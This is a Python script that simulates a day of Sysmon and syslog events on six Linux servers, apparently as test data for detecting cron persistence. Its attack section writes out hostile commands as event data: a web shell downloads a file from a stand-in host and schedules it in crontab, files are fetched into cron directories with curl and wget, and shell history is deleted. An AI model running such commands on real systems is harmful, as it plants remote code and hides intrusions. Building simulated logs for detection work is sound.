"""What happens on the six hosts of sysmon_linux.log."""

from datetime import timedelta

from sysmon import Host, at, sorted_lines

START, END = at("0:00"), at("18:00")


def seconds(number):
    return timedelta(seconds=number)


def times(rng, mean, start=START, end=END):
    """Moments with exponentially distributed gaps of `mean` seconds."""
    when = start
    while True:
        when += timedelta(microseconds=int(rng.expovariate(1 / mean) * 1_000_000))
        if when >= end:
            return
        yield when


# ---- ordinary activity


def cron_runs(host, rng):
    cron = host.daemon("/usr/sbin/cron", "/usr/sbin/cron -f")
    jobs = [("17", "root", "cd / && run-parts --report /etc/cron.hourly", "/usr/bin/run-parts"),
            ("35", "root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1", "/usr/lib/sysstat/debian-sa1"),
            ("09", "root", "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean", "/usr/lib/php/sessionclean")]
    for hour in range(18):
        for minute, user, command, image in rng.sample(jobs, 2):
            when = at(f"{hour}:{minute}:01") + timedelta(microseconds=rng.randrange(900_000))
            shell = host.start(when, cron, "/usr/bin/dash", f"/bin/sh -c {command}", ends=2)
            host.syslog(when, f"CRON[{shell.pid}]", f"({user}) CMD ({command})")
            host.start(when + timedelta(milliseconds=11), shell, image, image)


def timers(host, rng):
    units = [("apt-daily.service", "Daily apt download activities"), ("man-db.service", "Daily man-db regeneration"),
             ("fstrim.service", "Discard unused blocks on filesystems from /etc/fstab"),
             ("systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories"),
             ("sysstat-collect.service", "system activity accounting tool")]
    for when in times(rng, 2600):
        unit, title = rng.choice(units)
        host.syslog(when, "systemd[1]", f"Starting {unit} - {title}...")
        host.syslog(when + seconds(1), "systemd[1]", f"{unit}: Deactivated successfully.")
        host.syslog(when + seconds(1), "systemd[1]", f"Finished {unit} - {title}.")


def firewall(host, rng):
    for when in times(rng, 1500):
        host.syslog(when, "kernel", (
            f"[{rng.randrange(90_000, 900_000)}.{rng.randrange(999_999):06d}] [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.{rng.randrange(1, 255)} "
            f"DST={host.address} LEN=40 TTL={rng.randrange(44, 250)} PROTO=TCP SPT={rng.randrange(1024, 65535)} DPT={rng.choice([22, 23, 445, 3389, 8080])} "
            "WINDOW=1024 SYN URGP=0"))


def ssh_session(host, rng, when, user, address, commands):
    """A login, the commands that were typed, a logout. Returns the shell."""
    sshd = host.daemon("/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")
    child = host.start(when, sshd, "/usr/sbin/sshd", "/usr/sbin/sshd -D -R", ends=240)
    host.connect(when, child, address, 22, incoming=True)
    host.syslog(when + seconds(1), f"sshd[{child.pid}]",
                f"Accepted publickey for {user} from {address} port {rng.randrange(40_000, 60_000)} ssh2: ED25519 SHA256:{'%043x' % rng.randrange(1 << 168)}")
    host.syslog(when + seconds(1), f"sshd[{child.pid}]", f"pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)")
    home = "/root" if user == "root" else f"/home/{user}"
    shell = host.start(when + seconds(2), child, "/usr/bin/bash", "-bash", user=user, cwd=home, ends=236)
    for number, (image, command) in enumerate(commands):
        host.start(when + seconds(6 + 9 * number), shell, image, command, ends=6 + 9 * number)
    host.syslog(when + seconds(240), f"sshd[{child.pid}]", f"pam_unix(sshd:session): session closed for user {user}")
    return shell


def admins(host, rng):
    typed = [("/usr/bin/ls", "ls --color=auto -la"), ("/usr/bin/systemctl", "systemctl status nginx"), ("/usr/bin/df", "df -h"),
             ("/usr/bin/journalctl", "journalctl -u ssh -n 50"), ("/usr/bin/less", "less /var/log/syslog"),
             ("/usr/bin/top", "top -b -n 1"), ("/usr/bin/crontab", "crontab -l"), ("/usr/bin/cat", "cat /etc/crontab"),
             ("/usr/bin/ss", "ss -tlnp"), ("/usr/bin/git", "git pull --ff-only"), ("/usr/bin/du", "du -sh /var/log")]
    for when in times(rng, 11_000, at("7:00"), at("17:30")):
        ssh_session(host, rng, when, rng.choice(["anna", "mike"]), f"198.51.100.{rng.randrange(10, 40)}", rng.sample(typed, 4))


def password_guessing(host, rng):
    for when in times(rng, 2400):
        pid, name, source = host.pid(), rng.choice(["admin", "oracle", "test", "ubuntu", "pi"]), f"203.0.113.{rng.randrange(1, 255)}"
        host.syslog(when, f"sshd[{pid}]", f"Invalid user {name} from {source} port {rng.randrange(30_000, 60_000)}")
        host.syslog(when + seconds(2), f"sshd[{pid}]", f"Connection closed by invalid user {name} {source} port 55022 [preauth]")


def apt(host, rng):
    when = at("6:22:10") + seconds(rng.randrange(2400))
    shell = host.start(when, host.init, "/usr/bin/dash", "/bin/sh /usr/lib/apt/apt.systemd.daily install", ends=60)
    get = host.start(when + seconds(1), shell, "/usr/bin/apt-get", "apt-get -qq -y update", ends=40)
    method = host.start(when + seconds(2), get, "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http", user="_apt", ends=30)
    for number in range(5):
        host.connect(when + seconds(3 + number), method, "192.0.2.80", 80)
        host.create(when + seconds(4 + number), method, f"/var/lib/apt/lists/partial/mirror.example_dists_bookworm_main_{number}_Packages.xz")
    dpkg = host.start(when + seconds(30), shell, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 12 --unpack libexpat1_2.5.0-1+deb12u2_amd64.deb", ends=8)
    for path in ("/usr/lib/x86_64-linux-gnu/libexpat.so.1.8.10.dpkg-new", "/var/lib/dpkg/updates/0001", "/var/lib/dpkg/info/libexpat1.list-new"):
        host.create(when + seconds(33), dpkg, path)
    host.delete(when + seconds(36), dpkg, "/var/lib/dpkg/updates/0001")


def logrotate_run(host, rng):
    when = at("0:00:03")
    tool = host.start(when, host.init, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", ends=4)
    for name in ("syslog", "auth.log", "nginx/access.log", "cron.log"):
        host.create(when + seconds(1), tool, f"/var/log/{name}.1")
    host.delete(when + seconds(3), tool, f"/var/log/syslog.{rng.randrange(5, 8)}.gz")


def web_server(host, rng):
    nginx = host.daemon("/usr/sbin/nginx", "nginx: worker process", "www-data")
    php = host.daemon("/usr/sbin/php-fpm8.2", "php-fpm: pool www", "www-data")
    for when in times(rng, 600):
        host.connect(when, nginx, f"198.51.100.{rng.randrange(1, 255)}", 443, incoming=True)
        if rng.random() < 0.55:
            host.create(when + timedelta(milliseconds=40), php, f"/var/lib/php/sessions/sess_{rng.randrange(1 << 104):026x}")
        if rng.random() < 0.15:
            host.create(when, nginx, f"/var/lib/nginx/body/{rng.randrange(10**10):010d}")


def database(host, rng):
    postgres = host.daemon("/usr/lib/postgresql/15/bin/postgres", "postgres: 15/main: walwriter", "postgres")
    segment = 0x2A
    for when in times(rng, 700):
        segment += 1
        host.create(when, postgres, f"/var/lib/postgresql/15/main/pg_wal/00000001000000010000{segment:04X}")
        host.syslog(when, f"postgres[{postgres.pid}]", f"[{segment}-1] LOG:  checkpoint complete: wrote {rng.randrange(20, 900)} buffers")


def builds(host, rng):
    java = host.daemon("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/bin/java -jar /usr/share/java/jenkins.war --httpPort=8080", "jenkins")
    for number, when in enumerate(times(rng, 1500)):
        space = f"/var/lib/jenkins/workspace/shop-{number}"
        shell = host.start(when, java, "/usr/bin/dash", f"sh -xe /tmp/jenkins{rng.randrange(10**12)}.sh", cwd=space, ends=90)
        host.start(when + seconds(1), shell, "/usr/bin/git", "git fetch --tags --force --progress origin", ends=3)
        make = host.start(when + seconds(5), shell, "/usr/bin/make", "make -j2 all", ends=60)
        for step in range(rng.randrange(2, 5)):
            host.create(when + seconds(6 + step), make, f"{space}/build/part{step}.o")


def checks(host, rng):
    nagios = host.daemon("/usr/sbin/nagios4", "/usr/sbin/nagios4 --worker /var/lib/nagios4/rw/nagios.qh", "nagios")
    for when in times(rng, 420):
        name = rng.choice(["check_ping -H 10.20.0.11 -w 100,20% -c 500,60%", "check_disk -w 20% -c 10% -p /", "check_ssh 10.20.0.12", "check_http -H shop.example"])
        tool = host.start(when, nagios, f"/usr/lib/nagios/plugins/{name.split()[0]}", f"/usr/lib/nagios/plugins/{name}", ends=1)
        host.create(when + seconds(1), tool, f"/var/lib/nagios4/spool/checkresults/check{rng.randrange(1 << 24):06x}")


# ---- cron files that are no attack: the five scenarios of the pack, and an administrator's own table


def known_cron_files(hosts, rng):
    web1, web2, db, ci, mon, app = hosts

    def write(host, clock, image, command, user, path):
        tool = host.start(at(clock), host.init, image, command, user=user, ends=3)
        host.create(at(clock) + seconds(1), tool, path)

    write(web1, "8:02:11", "/usr/bin/rsync", "rsync -a --inplace backup-01:/srv/jobs/ /etc/cron.d/", "root", "/etc/cron.d/backup-home")
    write(db, "8:05:40", "/usr/bin/borg", "borg extract /srv/borg::jobs etc/cron.daily", "backup", "/etc/cron.daily/db-snapshot")
    write(ci, "9:30:05", "/usr/bin/cp", "cp ci/cron/deploy-shop /etc/cron.d/deploy-shop", "jenkins", "/etc/cron.d/deploy-shop")
    write(ci, "9:41:52", "/usr/bin/install", "install -m 644 nightly-build /etc/cron.d/nightly-build", "gitlab-runner", "/etc/cron.d/nightly-build")
    write(mon, "10:03:30", "/usr/bin/cp", "cp check_disk_usage /etc/cron.hourly/", "nagios", "/etc/cron.hourly/check_disk_usage")
    write(db, "10:15:07", "/usr/bin/tee", "tee /etc/cron.d/monitor-postgres", "zabbix", "/etc/cron.d/monitor-postgres")
    write(web2, "6:31:12", "/usr/bin/dpkg", "/usr/bin/dpkg --unpack logrotate_3.21.0-1_amd64.deb", "root", "/etc/cron.daily/logrotate.dpkg-new")
    write(app, "11:20:44", "/usr/bin/vim.basic", "vim /etc/cron.weekly/clean-tmp", "root", "/etc/cron.weekly/clean-tmp")
    write(app, "4:02:19", "/usr/sbin/yum-cron", "/usr/sbin/yum-cron /etc/yum/yum-cron.conf", "root", "/etc/cron.daily/0yum-update")
    write(web1, "6:40:33", "/usr/sbin/apticron", "/usr/sbin/apticron --cron", "root", "/etc/cron.d/apticron-upgrade")

    when = at("15:12:20")
    shell = ssh_session(web2, rng, when, "mike", "198.51.100.17", [("/usr/bin/ls", "ls scripts")])
    editor = web2.start(when + seconds(30), shell, "/usr/bin/crontab", "crontab -e", ends=40)
    web2.create(when + seconds(70), editor, "/var/spool/cron/crontabs/tmp.Qm3kTz")


# ---- attacks


def web_shell(host):
    """An uploaded script runs commands as the web server's user, who comes back by a crontab of his own."""
    when = at("11:07:31")
    php = host.daemon("/usr/sbin/php-fpm8.2", "php-fpm: pool www", "www-data")
    host.create(when - seconds(44), php, "/var/www/html/uploads/thumb.php")
    shell = host.start(when, php, "/usr/bin/dash", "sh -c id; uname -a", cwd="/var/www/html/uploads", ends=2)
    host.start(when + seconds(1), shell, "/usr/bin/id", "id", ends=1)
    shell = host.start(when + seconds(20), php, "/usr/bin/dash", "sh -c curl -fsSL http://203.0.113.66/k -o /tmp/.kw; chmod +x /tmp/.kw", ends=3)
    curl = host.start(when + seconds(21), shell, "/usr/bin/curl", "curl -fsSL http://203.0.113.66/k -o /tmp/.kw", ends=2)
    host.connect(when + seconds(21), curl, "203.0.113.66", 80)
    host.create(when + seconds(22), curl, "/tmp/.kw")
    shell = host.start(when + seconds(41), php, "/usr/bin/dash", "sh -c (crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/.kw') | crontab -", ends=2)
    host.start(when + seconds(41), shell, "/usr/bin/crontab", "crontab -l", ends=1)
    table = host.start(when + seconds(42), shell, "/usr/bin/crontab", "crontab -", ends=1)
    host.create(when + seconds(42), table, "/var/spool/cron/crontabs/www-data")


def stolen_key(host, rng):
    """A login with a stolen key; two places in cron, so that one survives a clean-up."""
    when = at("2:41:09")
    shell = ssh_session(host, rng, when, "root", "203.0.113.66", [("/usr/bin/w", "w"), ("/usr/bin/id", "id")])
    host.create(when + seconds(50), shell, "/etc/cron.d/.sysstat")
    tee = host.start(when + seconds(80), shell, "/usr/bin/tee", "tee -a /etc/crontab", ends=1)
    host.create(when + seconds(80), tee, "/etc/crontab")
    host.start(when + seconds(110), shell, "/usr/bin/rm", "rm -f /root/.bash_history", ends=1)


def poisoned_build(host):
    """A dependency's install script runs in a build. Its job's name is none that builds use."""
    when = at("13:22:47")
    java = host.daemon("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/bin/java -jar /usr/share/java/jenkins.war --httpPort=8080", "jenkins")
    node = host.start(when, java, "/usr/bin/node", "node /var/lib/jenkins/workspace/shop-31/node_modules/left-padder/postinstall.js", ends=9)
    host.connect(when + seconds(2), node, "203.0.113.90", 443)
    host.create(when + seconds(4), node, "/etc/cron.d/cache-refresh")


def disguises(mon, app):
    """Names that look like the known scenarios and are not: another tool, another user."""
    agent = mon.daemon("/usr/sbin/zabbix_agentd", "/usr/sbin/zabbix_agentd -c /etc/zabbix/zabbix_agentd.conf", "zabbix")
    when = at("14:05:12")
    shell = mon.start(when, agent, "/usr/bin/dash", "sh -c wget -qO /etc/cron.hourly/.zbx http://203.0.113.90/z", ends=3)
    wget = mon.start(when + seconds(1), shell, "/usr/bin/wget", "wget -qO /etc/cron.hourly/.zbx http://203.0.113.90/z", ends=2)
    mon.connect(when + seconds(1), wget, "203.0.113.90", 80)
    mon.create(when + seconds(2), wget, "/etc/cron.hourly/.zbx")

    when = at("14:31:55")
    curl = app.start(when, app.init, "/usr/bin/curl", "curl -s http://203.0.113.90/b -o /etc/cron.d/backup-sync", ends=2)
    app.connect(when + seconds(1), curl, "203.0.113.90", 80)
    app.create(when + seconds(1), curl, "/etc/cron.d/backup-sync")
    python = app.start(when + seconds(30), app.init, "/usr/bin/python3.11", "python3 -c open('/etc/cron.allow','a').write('nobody\\n')", ends=1)
    app.create(when + seconds(30), python, "/etc/cron.allow")


def syslog_lines(rng):
    names = ["web-01", "web-02", "db-01", "ci-01", "mon-01", "app-01"]
    hosts = [Host(name, f"10.20.0.{11 + number}", rng) for number, name in enumerate(names)]
    web1, web2, db, ci, mon, app = hosts
    for host in hosts:
        for activity in (cron_runs, timers, firewall, admins, apt, logrotate_run):
            activity(host, rng)
    for host in (web1, web2):
        web_server(host, rng)
        password_guessing(host, rng)
    database(db, rng)
    builds(ci, rng)
    checks(mon, rng)
    known_cron_files(hosts, rng)
    web_shell(web1)
    stolen_key(db, rng)
    poisoned_build(ci)
    disguises(mon, app)
    return sorted_lines(hosts)
